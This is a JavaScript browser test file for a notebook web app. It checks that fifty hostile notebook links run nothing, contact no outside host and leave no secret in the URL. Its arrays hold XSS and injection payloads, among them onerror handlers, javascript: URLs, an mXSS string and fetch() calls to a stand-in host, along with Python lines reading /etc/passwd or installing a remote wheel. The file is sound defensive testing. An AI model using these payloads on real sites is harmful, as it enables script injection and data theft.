// Fifty links that mean harm: opening one runs nothing, asks nobody but the site, and starts no worker;
// and what a link holds is nowhere in the address afterwards.

import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { launch, newPage, percent, runCell, saved, site, waitFor, write } from "./harness.mjs";
import { fragmentOf } from "./fragment.mjs";

let browser, served;
before(async () => ((browser = await launch()), (served = await site())));
after(async () => (await browser?.close(), await served?.close(), await elsewhere.close()));

// Somebody who would like to be asked.
const elsewhere = await site();

const linkOf = (text) => `${served.url}${fragmentOf(text)}`;

const AWAY = elsewhere.url.slice(0, -1);
const HARM = `globalThis.harmed=1;fetch('${AWAY}/js')`;

/** Texts that would run or ask for something if they were taken for more than text. */
const TEXTS = [
  `<script>${HARM}</script>`,
  `<img src=x onerror="${HARM}">`,
  `<img src="${AWAY}/pixel.png">`,
  `![picture](${AWAY}/pixel.png)`,
  `![x](x"onerror="${HARM})`,
  `[link](javascript:${HARM})`,
  `<a href="javascript:${HARM}">link</a>`,
  `<svg onload="${HARM}"><use href="${AWAY}/a.svg#a"></use></svg>`,
  `<svg><script>${HARM}</script></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${HARM}&gt;">`,
  `<iframe src="${AWAY}"></iframe>`,
  `<iframe srcdoc="<script>parent.harmed=1</script>"></iframe>`,
  `<object data="${AWAY}/a.swf"></object><embed src="${AWAY}/a.swf">`,
  `<link rel="stylesheet" href="${AWAY}/a.css"><style>@import "${AWAY}/b.css";</style>`,
  `<meta http-equiv="refresh" content="0; url=${AWAY}">`,
  `<base href="${AWAY}/">`,
  `<form action="${AWAY}"><button autofocus>Run all</button></form>`,
  `<video src="${AWAY}/a.mp4" autoplay></video><audio src="${AWAY}/a.mp3" autoplay></audio>`,
  `<p style="background: url(${AWAY}/a.png)">styled</p>`,
  `<details open ontoggle="${HARM}">open</details>`,
  `<div data-action="run" class="button primary" onclick="${HARM}">Run</div>`,
  `$\\href{javascript:${HARM}}{a}$ and $\\includegraphics{${AWAY}/a.png}$`,
  `{__import__("js").eval("${HARM}")} {open("/etc/passwd").read()}`,
  `<noscript><p title="</noscript><img src=x onerror=${HARM}>">`,
  `<template><script>${HARM}</script></template><x-y is="a-b" onclick="${HARM}"></x-y>`,
];

/** Code that would do something if anybody ran it, or fetched what it names. */
const CODES = [
  `import js\njs.eval("${HARM}")`,
  `import urllib.request\nurllib.request.urlopen("${AWAY}/python")`,
  `import pandas\npandas.read_csv("${AWAY}/data.csv")`,
  `open("${AWAY}/data.csv")`,
  `# /// script\n# dependencies = ["harm @ ${AWAY}/harm.whl"]\n# ///\nimport harm`,
  `%pip install ${AWAY}/harm.whl`,
  `%%javascript\n${HARM}`,
  `%%html\n<script>${HARM}</script>`,
  `import numpy, pandas, matplotlib, scipy, sklearn`,
  `f"""<script>${HARM}</script>"""`,
  `class A:\n    def __repr__(self): raise SystemExit\nA()`,
  `while True: pass`,
  `__builtins__ = None`,
  `import micropip\nawait micropip.install("${AWAY}/harm.whl")`,
  `"notebooks/../../secret.csv"; open("${AWAY.slice(5)}/x.csv")`,
];
/** Names that a file or a page might take for its own. */
const TITLES = [
  `<script>${HARM}</script>`, `"><img src=x onerror=${HARM}>`, "__proto__", "constructor", "../../index.html", "javascript:alert(1)",
  "\u202eevil", "a".repeat(5_000), "\u0000\u0008", "${7*7}{{7*7}}",
];

const NOTEBOOKS = [
  ...TEXTS.map((text) => `# %% [markdown]\n# ${text.replaceAll("\n", "\n# ")}\n`),
  ...CODES.map((code) => percent(code)),
  ...TITLES.map((title) => `# rivulet: title=${JSON.stringify(title)}\n${percent("a = 1")}`),
];

test("fifty links that mean harm run nothing, ask nobody else and start no worker", async () => {
  assert.equal(NOTEBOOKS.length, 50);
  const page = await newPage(browser, { serviceWorkers: "block" });
  const started = [];
  page.on("worker", (worker) => started.push(worker.url()));
  page.on("dialog", (dialog) => (started.push(dialog.message()), dialog.dismiss()));
  for (const notebook of NOTEBOOKS) {
    await page.goto("about:blank");
    await page.goto(linkOf(notebook));
    await page.waitForSelector("article[data-cell]");
    // What is built in slices is there.
    await page.waitForFunction(() => !document.querySelector('[aria-busy="true"]'));
    const found = await page.evaluate(() => ({
      harmed: globalThis.harmed,
      frames: frames.length,
      statuses: [...new Set([...document.querySelectorAll("article[data-cell]")].map((cell) => cell.dataset.status))],
      kernel: document.querySelector("main").dataset.kernel,
      hash: location.hash,
      referrer: document.referrer,
    }));
    // The page has opened itself anew, without the link.
    assert.deepEqual(found, { harmed: undefined, frames: 0, statuses: found.statuses, kernel: "off", hash: "", referrer: served.url }, notebook);
    assert.ok(found.statuses.every((status) => /^(idle|text)$/.test(status)), `${found.statuses}`);
  }
  assert.deepEqual([elsewhere.requests, started, page.troubles], [[], [], []]);
  await page.context().close();
});

test("what a link held is in no address, also not of Python's frame", async () => {
  const page = await newPage(browser);
  const link = linkOf(percent('import js\nstr(js.location.href) + " " + str(js.self.location.hash)'));
  const secret = link.split("#")[1].slice(0, 40);
  await page.goto(link);
  await page.waitForSelector("article[data-cell]");
  await runCell(page, 1);
  await waitFor(page, 1, "success");
  const seen = [page.url(), await page.locator('[data-part="output"]').innerText()];
  for (const frame of page.frames()) seen.push(frame.url(), await frame.evaluate(() => document.baseURI), await frame.evaluate(() => document.referrer));
  assert.ok(page.frames().length > 1, "Python has a frame");
  assert.deepEqual(seen.filter((address) => address.includes(secret)), []);
  for (const { path } of served.requests) assert.ok(!path.includes(secret));
  // Nor in what the browser tells of how the page was opened.
  const told = await page.evaluate(() => JSON.stringify([
    history.state, performance.getEntries().map(({ name }) => name), document.URL, document.baseURI, name,
    navigation.entries().map((entry) => [entry.url, entry.getState() ?? null]), navigation.activation?.entry?.url ?? null,
  ]));
  assert.ok(told.includes(new URL(served.url).pathname), told);
  assert.ok(!told.includes(secret), told);
  assert.deepEqual(page.troubles, []);
  await page.context().close();
});

test("a preview is there after a reload, and by Back and Forward, also between links in one tab", async () => {
  const page = await newPage(browser);
  /** Waits until the first cell holds this, and the address nothing of a link. */
  const shows = async (text) => {
    await page.waitForFunction((text) => document.querySelector('[data-cell] [data-part="editor"]')?.textContent.includes(text), text);
    assert.equal(new URL(page.url()).hash, "");
  };
  await page.goto(linkOf(percent("first = 1")));
  await shows("first");
  await page.reload();
  await shows("first");
  // Pasted over the open page, where only the fragment changes.
  const second = linkOf(`${percent("second = 2")}\n# %% [markdown]\n# # Below\n#\n# [down](#Below)\n`);
  await page.evaluate((fragment) => void setTimeout(() => (location.hash = fragment)), new URL(second).hash);
  await shows("second");
  await page.goBack();
  await shows("first");
  await page.goForward();
  await shows("second");
  // A copy that the first change makes is the same notebook: what was a place of it before leads to it.
  await page.getByRole("link", { name: "down" }).click();
  await write(page, 1, "second = 22");
  await saved(page);
  const mine = page.url();
  assert.match(mine, /\?n=/);
  await page.evaluate(() => (globalThis.isSame = true));
  await page.goBack();
  await page.waitForURL(mine);
  assert.ok(await page.evaluate(() => globalThis.isSame), "nothing was loaded anew");
  await page.goBack();
  await shows("first");
  // Where the browser keeps nothing it opens as well, and says what a reload cannot bring back.
  await page.addInitScript(() => {
    Storage.prototype.setItem = () => {
      throw new DOMException("refused", "QuotaExceededError");
    };
  });
  await page.goto("about:blank");
  await page.goto(linkOf(percent("third = 3")));
  await shows("third");
  await page.evaluate((fragment) => void setTimeout(() => (location.hash = fragment)), new URL(second).hash);
  await shows("second");
  assert.equal(await page.evaluate(() => JSON.stringify(history.state).length < 60), true);
  await page.reload();
  await page.getByRole("alert").filter({ hasText: "This browser has not kept what was in the link that was open here. Open the link again." }).waitFor();
  assert.deepEqual(page.troubles, []);
  await page.context().close();
});
